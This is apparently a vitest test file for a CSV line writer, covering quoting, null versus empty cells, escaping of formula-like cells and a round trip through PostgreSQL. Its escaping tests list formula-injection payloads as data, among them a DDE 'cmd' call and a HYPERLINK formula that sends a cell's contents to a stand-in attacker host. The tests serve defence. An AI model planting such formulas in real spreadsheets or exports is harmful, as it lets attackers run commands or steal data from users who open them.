import { PGlite } from "@electric-sql/pglite";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Cell, csvLine, guarded } from "#lib/csv/csv.ts";

describe("a line of CSV", () => {
  test.each<[string, readonly Cell[], string]>([
    ["plain texts stand as they are", ["aaa", "b b", "ccc"], "aaa,b b,ccc"],
    ["quotes are doubled", ["aaa", 'b"bb', "ccc"], 'aaa,"b""bb",ccc'],
    ["commas and line ends are quoted", ["a,b", "a\r\nb", "a\nb"], '"a,b","a\r\nb","a\nb"'],
    ["nothing and an empty text differ", [null, "", null], ',"",'],
    ["numbers are not guarded", [-3, 0.5, 1e21], "-3,0.5,1e+21"],
    ["an apostrophe of one's own stays one", ["'quoted'"], "'quoted'"],
  ])("%s", (_what, cells, line) => {
    expect(csvLine(cells)).toBe(`${line}\r\n`);
  });

  test.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
  ])("%j is shown by a spreadsheet, and not run", (text) => {
    expect(guarded(text)).toBe(`'${text}`);
  });

  test.each(["token:ci", "a=b", "2026-01-01", "{}", "ada@example.org", "'", "", "é"])(
    "%j stays as it is",
    (text) => {
      expect(guarded(text)).toBe(text);
    },
  );
});

/** PostgreSQL keeps no NUL, and UTF-8 has no half of a pair. */
const text = fc
  .array(
    fc.oneof(
      fc.constantFrom(...`"',;\r\n\t =+-@\\.`, "\r\n", '""', "\\."),
      fc.string({ unit: "grapheme", maxLength: 4 }),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join("").replaceAll("\0", ""));
const table = fc.array(fc.tuple(fc.option(text), text, fc.option(text)), {
  minLength: 1,
  maxLength: 20,
});

describe("what is written is what is read", () => {
  let pg: PGlite;
  beforeAll(async () => {
    pg = await PGlite.create();
    await pg.exec("create table t (n serial, a text, b text, c text)");
  });
  afterAll(() => pg.close());

  const expected = (rows: readonly (readonly (string | null)[])[]) =>
    rows.map((row) => row.map((cell) => (cell === null ? null : guarded(cell))));

  test("by PostgreSQL, nothing and the empty text included", async () => {
    await fc.assert(
      fc.asyncProperty(table, async (rows) => {
        await pg.exec("truncate t");
        const blob = new Blob([rows.map(csvLine).join("")]);
        await pg.query("copy t (a, b, c) from '/dev/blob' with (format csv)", [], { blob });
        const { rows: read } = await pg.query<{ a: string; b: string; c: string }>(
          "select a, b, c from t order by n",
        );
        expect(read.map(({ a, b, c }) => [a, b, c])).toEqual(expected(rows));
      }),
      { numRuns: 150 },
    );
  });
});
